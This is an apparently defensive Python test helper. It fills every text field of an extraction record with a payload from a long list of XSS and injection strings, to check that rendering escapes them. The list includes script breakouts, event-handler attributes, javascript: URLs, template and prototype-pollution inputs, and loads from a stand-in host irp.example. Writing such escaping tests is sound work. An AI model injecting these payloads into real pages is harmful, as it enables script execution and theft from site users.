"""Results in which every text is a payload: made from the models, so that no field is forgotten."""

from __future__ import annotations

import itertools
import types
from datetime import UTC, date, datetime
from enum import Enum
from typing import Annotated, Any, Literal, Union, get_args, get_origin

from pydantic import AwareDatetime, BaseModel

from irp.record.decision import DecisionPlace, DecisionSource
from irp.record.extraction import Extraction
from irp.record.spans import Box

_RUN = "window.ran=1;alert(1)"
PAYLOADS = (
    f"<script>{_RUN}</script>",
    f"</script><script>{_RUN}</script>",
    f"</ScRiPt ><sCrIpT>{_RUN}</sCrIpT>",
    f"</style><script>{_RUN}</script>",
    f"</title><script>{_RUN}</script>",
    f"</textarea><script>{_RUN}</script>",
    f"</pre><script>{_RUN}</script><pre>",
    f"</noscript><script>{_RUN}</script>",
    f"</template><script>{_RUN}</script>",
    f"--><script>{_RUN}</script><!--",
    f"<!--<script>{_RUN}</script>-->",
    f"]]><script>{_RUN}</script><![CDATA[",
    f"<![CDATA[<script>{_RUN}</script>]]>",
    "<script src=https://irp.example/x.js></script>",
    "<script src=data:text/javascript,alert(1)></script>",
    "<script type=module>import('https://irp.example/x.js')</script>",
    f"<img src=x onerror={_RUN}>",
    f"<img src=x onerror='{_RUN}'>",
    f'"><img src=x onerror="{_RUN}">',
    f"'><img src=x onerror='{_RUN}'>",
    f"`><img src=x onerror=`{_RUN}`>",
    "<img src=https://irp.example/x.png>",
    '<img srcset="https://irp.example/x.png 1x">',
    f"<svg onload={_RUN}>",
    f"<svg><script>{_RUN}</script></svg>",
    f"<svg><animate onbegin={_RUN} attributeName=x dur=1s></svg>",
    f"<svg><style><img src=x onerror={_RUN}></style></svg>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={_RUN}>",
    f"<body onload={_RUN}>",
    f"<iframe srcdoc='<script>{_RUN}</script>'></iframe>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<object data=https://irp.example/x></object>",
    "<embed src=https://irp.example/x>",
    "<base href=https://irp.example/>",
    "<meta http-equiv=refresh content='0;url=https://irp.example/'>",
    "<meta http-equiv=Content-Security-Policy content='script-src *'>",
    "<link rel=stylesheet href=https://irp.example/x.css>",
    "<style>@import 'https://irp.example/x.css'; body { display: none }</style>",
    "<form action=https://irp.example/><button autofocus>x</button></form>",
    f"<input autofocus onfocus={_RUN}>",
    f"<details open ontoggle={_RUN}>",
    f"<video><source onerror={_RUN}></video>",
    "<a href=javascript:alert(1)>x</a>",
    "javascript:window.ran=1;alert(1)//",
    "data:text/html,<script>alert(1)</script>",
    f'" onmouseover="{_RUN}" autofocus onfocus="{_RUN}" x="',
    f"' onclick='{_RUN}' style='position:fixed;inset:0' x='",
    "{{ 7 * 7 }}{% for x in ().__class__.__mro__ %}{{ x }}{% endfor %}",
    "${alert(1)}`${alert(1)}`",
    '\\"};alert(1);//',
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "&lt;script&gt;alert(1)&lt;/script&gt;&#60;img src=x onerror=alert(1)&#62;",
    "\u2028alert(1)\u2029//",
    "\u202e<script>alert(1)</script>\u2066",
    "__proto__",
    "constructor/../prototype~1~0%00#?&=",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "%3Cscript%3Ealert(1)%3C/script%3E",
)
"""What must arrive as text and do nothing."""

BENIGN = "an orchard by the harbour"


def hostile_extraction(payload: str) -> Extraction:
    """A result in which every text of every model is the payload, keys of mappings too."""
    plain = _made(Extraction, payload, itertools.count())
    # Every leaf of the report has a place, under a pointer that holds the payload where keys do.
    place = {"page": 1, "start": 0, "end": 2, "box": Box(10, 10, 60, 20)}
    plain["provenance"] = {pointer: [place] for pointer in _pointers(plain["report"], "")}
    plain["status"] = "needs_review"
    return Extraction.model_validate(plain)


def refused_extraction(payload: str) -> Extraction:
    """The same without a report: what came of a source that was refused."""
    plain = hostile_extraction(payload).model_dump()
    nothing: dict[str, Any] = {
        "report": None,
        "stated": None,
        "coverage": None,
        "provenance": {},
        "checks": [],
    }
    return Extraction.model_validate({**plain, **nothing, "status": "failed"})


def _made(kind: Any, payload: str, count: itertools.count[int]) -> Any:
    """A plain value of an annotation: two members to a list, members of enums by turns."""
    origin, arguments = get_origin(kind), get_args(kind)
    if origin is Annotated:
        return _made(arguments[0], payload, count)
    if origin in {Union, types.UnionType}:
        return _made(next(one for one in arguments if one is not type(None)), payload, count)
    if origin is Literal:
        return arguments[0]
    if origin is list:
        return [_made(arguments[0], payload, count) for _ in range(2)]
    if origin is dict:
        return {payload: _made(arguments[1], payload, count)}
    return _simple(kind, payload, count)


def _simple(kind: Any, payload: str, count: itertools.count[int]) -> Any:
    if kind is Box:
        return Box(10, 10, 60, 20)
    if kind is DecisionPlace:  # either a pointer or a code
        return {"pointer": f"/{payload}", "words": [payload, payload]}
    if kind is DecisionSource:
        return {"sha256": "0" * 64, "name": payload}
    if issubclass(kind, BaseModel):
        return {
            name: _made(field.annotation, payload, count)
            for name, field in kind.model_fields.items()
        }
    if issubclass(kind, Enum):
        members = list(kind)
        return members[next(count) % len(members)]
    values: dict[Any, Any] = {
        str: payload,
        int: 1,
        date: date(2022, 6, 7),
        datetime: datetime(2022, 6, 7, tzinfo=UTC),
        AwareDatetime: datetime(2022, 6, 7, tzinfo=UTC),
        Any: payload,
    }
    return values[kind]


def _pointers(value: Any, pointer: str) -> list[str]:
    if isinstance(value, dict):
        inner = [(name.replace("~", "~0").replace("/", "~1"), one) for name, one in value.items()]
    elif isinstance(value, list):
        inner = [(str(number), one) for number, one in enumerate(value)]
    else:
        return [pointer]
    return [found for name, one in inner for found in _pointers(one, f"{pointer}/{name}")]
